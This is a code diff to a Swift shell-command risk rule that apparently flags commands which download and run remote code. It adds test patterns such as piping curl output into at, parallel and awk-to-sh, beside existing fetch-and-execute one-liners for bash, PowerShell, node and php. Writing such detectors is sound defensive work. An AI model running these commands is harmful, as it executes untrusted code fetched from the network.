@@ -30,6 +30,7 @@ extension RiskRule {
       "wget https://h/a.sh; ‹bash a.sh›",
       "curl -sL x | sudo -E ‹bash -›", "curl x | xargs -I{} ‹sh -c {}›",
       "‹at -f <(curl x) now›", "curl x | ‹crontab -›",
+      "curl x | ‹at now›", "curl x | ‹parallel›", "curl x | awk ‹'{print | \"sh\"}'›",
       "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA", "curl x | ‹make -f -›",
       "node -e \"fetch('http://x').then(r=>r.text()).then(eval)\"", "php -r 'eval(file_get_contents(\"http://x\"));'",
 
@@ -61,8 +62,9 @@ extension RiskRule {
         return Match(level: .danger, range: invocation.range)
       }
       let isRun =
-        (interpreters.contains(name) || schedulers.contains(name) || readsMakefile(invocation, name))
-        && (!readsOwnProgram(invocation) || schedulers.contains(name) && invocation.words.contains("-"))
+        (interpreters.contains(name) || schedulers.contains(name) || readsMakefile(invocation, name)
+          || name == "parallel" && invocation.operands.isEmpty)
+        && (readsLater(invocation, name) || !readsOwnProgram(invocation))
         && script.sources(of: invocation).contains(where: fetches)
       return isRun || runs(invocation, name, oneOf: downloads) ? Match(level: .danger, range: invocation.range) : nil
     }
@@ -113,6 +115,12 @@ extension RiskRule {
     "at", "batch", "crontab", "systemctl", "launchctl", "visudo", "initctl", "iptables-restore", "nft", "insmod",
     "psql", "mysql", "mariadb", "update-rc.d", "apt-key", "rpmkeys",
   ]
+
+  /// Whether a scheduler reads what it shall run from its input: the words of at are a time.
+  private static func readsLater(_ invocation: Invocation, _ name: String) -> Bool {
+    schedulers.contains(name)
+      && (invocation.words.contains("-") || ["at", "batch"].contains(name) && !invocation.hasFlag("f"))
+  }
 
   /// make that is given its rules instead of reading them from a file: `make -f -`.
   private static func readsMakefile(_ invocation: Invocation, _ name: String) -> Bool {
@@ -168,6 +176,6 @@ extension RiskRule {
     if invocation.takesFoundFiles { return false }
     if invocation.hasFlag("m") || invocation.hasFlag("e") || invocation.hasFlag("c") { return true }
     guard let first = invocation.operands.first?.value else { return false }
-    return first != "-" && first != "/dev/stdin" && !invocation.hasFlag("s")
+    return first != "-" && !ShellProgram.isStandardInput(first) && !invocation.hasFlag("s")
   }
 }
